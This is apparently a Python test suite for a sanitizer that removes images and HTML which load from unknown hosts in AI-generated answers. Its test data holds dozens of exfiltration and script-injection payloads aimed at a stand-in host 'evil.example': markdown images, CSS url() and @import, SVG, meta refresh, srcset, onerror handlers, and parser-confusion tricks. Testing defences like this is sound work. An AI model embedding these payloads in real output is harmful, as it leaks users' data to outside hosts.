"""Images in answers: what a viewer would load from an address that comes from nowhere."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.provenance.images import REMOVED, without_unknown_images

KNOWN = "https://a.example/i.png"
EVIL = "https://evil.example/?d=1"


def loaded(page: str) -> list[str]:
    """What of a page names the evil host, without links and texts that are shown."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            shown = {"alt", "title", "href" if tag == "a" else ""}
            found.extend(f"{tag} {n}" for n, v in attrs if n not in shown and "evil" in f"{v}")
            found.extend([tag] if tag in ("style", "script") else [])

    Reader().feed(page)
    return found


def shown(answer: str) -> str:
    return without_unknown_images(answer, lambda url: url == KNOWN)


@pytest.mark.parametrize(
    "answer",
    [
        f"![x]({KNOWN})",
        f"![x][y]\n\n[y]: {KNOWN}",
        f"<img src='{KNOWN}' alt='x'>",
        "![x](a/b.png) and ![y](data:image/png;base64,AA)",
        f"[a link]({EVIL}) and {EVIL}",
        "wow![1] a < b",
    ],
)
def test_what_may_be_loaded_stays(answer: str) -> None:
    assert shown(answer) == answer


@pytest.mark.parametrize(
    ("answer", "rest"),
    [
        (f"a ![x]({EVIL}) b", f"a x {REMOVED} b"),
        (f'![x](<{EVIL}> "t (1)")!', f"x {REMOVED}!"),
        (f"![x](\n{EVIL}\n)", f"x {REMOVED}"),
        (f"![x y][]\n\n[X  Y]: {EVIL}", f"x y {REMOVED}\n\n[X  Y]: {EVIL}"),
        (f"![x]\n\n[x]: {EVIL}", f"x {REMOVED}\n\n[x]: {EVIL}"),
        (f"<img alt='>' src='{EVIL}'> b", f"{REMOVED} b"),
        (f'<video poster="{EVIL}"></video>', f"{REMOVED}</video>"),
        (f"<img srcset='{KNOWN} 1x, {EVIL} 2x'>", REMOVED),
    ],
)
def test_what_may_not_gives_way_to_its_text(answer: str, rest: str) -> None:
    assert shown(answer) == rest


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https:&#47;/evil.example/?d=1)",
        "![x](https\\://evil.example/?d=1)",
        "![x](//evil.example/?d=1)",
        f"![x]({KNOWN}(evil))",
        f"![a ![b]({EVIL})]({KNOWN})",
        f"![a\\\\]({EVIL}) ](b.png)",
        f"![`](b.png)`]({EVIL})",
        f"![{'x' * 2_000}]({EVIL})",
        f"![x]({' ' * 200}{EVIL})",
        f"<img src='{EVIL}",
        f"<img alt='>' src={EVIL}> b",
        f"<img title='{'x' * 9_000}' src='{EVIL}'>",
    ],
)
def test_where_it_is_hard_to_tell_nothing_is_loaded(answer: str) -> None:
    result = shown(answer)
    assert "![" not in result or "evil" not in result
    assert "<img" not in result


@pytest.mark.parametrize(
    "html",
    [
        "<b style='background:url(//evil.example)'>b</b>",
        "<b style='background:u\\72l(//evil.example)'>b</b>",
        "<style>@import '//evil.example';</style>",
        "<style>\nb { background: url(//evil.example) }\n</style>",
        "<table background='//evil.example'>",
        "<td background=//evil.example>",
        "<body background='//evil.example'>",
        "<script src='//evil.example'></script>",
        "<script>fetch('//evil.example')</script>",
        "<meta http-equiv='refresh' content='0;url=//evil.example'>",
        "<META HTTP-EQUIV=refresh CONTENT='0;HTTPS:evil.example'>",
        "<base href='//evil.example/'>",
        "<link rel='prefetch' href='//evil.example'>",
        "<link rel='dns-prefetch' href='/\\evil.example'>",
        "<link rel='stylesheet' href='data:text/css;base64,QGltcG9ydA=='>",
        "<img srcset='a.png 1x,\n//evil.example 2x'>",
        "<img src='/\t/evil.example'>",
        "<img src='h&#10;ttps://evil.example'>",
        "<img src='&#104;ttps://evil.example'>",
        "<img/src='//evil.example'/>",
        "<IMG SRC=//evil.example>",
        "<svg><image href='//evil.example'/></svg>",
        "<svg><use xlink:href='//evil.example#a'/></svg>",
        "<svg><feImage href='//evil.example'/></svg>",
        "<svg><style>@import '//evil.example';</style></svg>",
        "<object data='//evil.example'></object>",
        "<embed src='//evil.example'>",
        "<iframe srcdoc='<img src=&quot;//evil.example&quot;>'></iframe>",
        "<video poster='//evil.example'><source src='//evil.example'></video>",
        "<input type='image' src='//evil.example'>",
        "<a href='x' ping='//evil.example'>a</a>",
        "<select><img src='//evil.example'></select>",
        "<textarea><b title='</textarea><img src=//evil.example>'></textarea>",
        "<xmp><!--</xmp><img src='//evil.example'>-->",
        "<svg><![CDATA[><!--]]></svg><img src='//evil.example'>-->",
        "<div background=//evil.example",
        "<div title=\"\n\n<b title='\" background=//evil.example '>",
    ],
)
def test_whatever_html_loads_from_elsewhere_is_taken_out(html: str) -> None:
    for answer in (
        html,
        f"An answer {html} goes on",
        f"> - x\n>   {html}",
        f"<div>\n{html}\n</div>",
    ):
        result = shown(answer)
        assert result != answer or '="\n\n' in html
        assert shown(result) == result
        assert not loaded(MarkdownIt("commonmark").render(result))
        assert "answer" not in answer or result.startswith("An answer ")


@pytest.mark.parametrize(
    "answer",
    [
        "if a < b and c > d: x <y and 3<4; List<int>, <your name>, <T extends Object>",
        "Use <b>bold</b>, <br/> and <kbd class='key'>Ctrl</kbd> & <sub>2</sub>.",
        "<details open>\n<summary>More</summary>\n\n**text** > 1\n\n</details>",
        "<answer>\ntext\n</answer>",
        "<div align='center' dir='rtl' title='Note: this'>\n\n# x\n\n</div>",
        f"<a href='{EVIL}' title='a: b'>a link</a> and <{EVIL}>",
        "<img src='a/b.png' width=40> <img src='data:image/png;base64,AA'>",
        f"<img srcset='{KNOWN} 1x, b.png 2x'> <!-- a note -->",
        f"Write `<img src='{EVIL}'>` or `` <style>@import '{EVIL}' ` ``.",
        f"```html\n<script src='{EVIL}'></script>\n![x]({EVIL})\n```",
        f"1. As\n\n   ~~~\n   <img src='{EVIL}'>\n   ~~~",
        f"So:\n\n    <body background='{EVIL}'>\n    ![x]({EVIL})",
        f"It is &lt;img src='{EVIL}'&gt;, or \\<img src='{EVIL}'>, or \\![x]({EVIL}).",
        "#include <stdio.h>\n#include <vector>",
        "x <- c(1, 2); y <<= 1; a <!= b",
    ],
)
def test_an_answer_that_loads_nothing_stays_as_it_is(answer: str) -> None:
    assert shown(answer) == answer


def test_only_what_loads_is_taken_out_of_an_answer() -> None:
    answer = f"# A\n\n`<img src='{EVIL}?'>` a < b ![x]({KNOWN})\n\n"
    assert shown(f"{answer}<img src='{EVIL}'> ![y]({EVIL}) z") == f"{answer}{REMOVED} y {REMOVED} z"


def test_code_of_a_table_is_code_where_its_cell_ends_later() -> None:
    table = f"| a | b |\n| - | - |\n| `x | <img src='{EVIL}'> ` |"
    assert "<img" not in shown(table)


@pytest.mark.parametrize(
    "part", ["![", "![x](", "<img ", '<img "', "[x]: ", "![x](a(", "|<b>", "<a b=//c>"]
)
def test_hostile_answers_take_bounded_time(part: str) -> None:
    answer = part * (60_000 // len(part))
    began = time.process_time()
    shown(answer)
    assert time.process_time() - began < 2.0


PIECES = ("<b ", "<img ", "<td ", "<div ", "<style", "</b", " src=", " style=", " title=", "'", '"')
MORE = (
    ">",
    "`",
    "```\n",
    "\n",
    "\n\n",
    "//evil.example",
    "url(",
    "<!--",
    "-->",
    "![x](",
    ")",
    "|",
    "x",
)


@given(st.lists(st.sampled_from((*PIECES, *MORE)), max_size=25).map("".join))
def test_no_answer_loads_anything_from_elsewhere(answer: str) -> None:
    assert not loaded(MarkdownIt("commonmark").render(shown(answer)))
    assert not loaded(MarkdownIt("commonmark").enable("table").render(shown(answer)))


def test_of_an_answer_in_which_something_loads_all_other_words_stay() -> None:
    answer = (
        '## Prices\n\nA [trap](javascript:owned=1), <img src=x onerror="owned=1"><script>owned=1'
        "</script> and ![a picture](https://tracker.example/pixel.png).\n\n| Shop | Price |\n"
        "|------|------:|\n| Ola  | 42 |\n\n```python\nprint(42)\n```\n\nSources: notes.md"
    )
    shown = without_unknown_images(answer, lambda url: False)
    for kept in ("## Prices", "| Ola  | 42 |", "```python\nprint(42)\n```", "Sources: notes.md"):
        assert kept in shown
    assert "tracker.example" not in shown
    assert "<script" not in shown
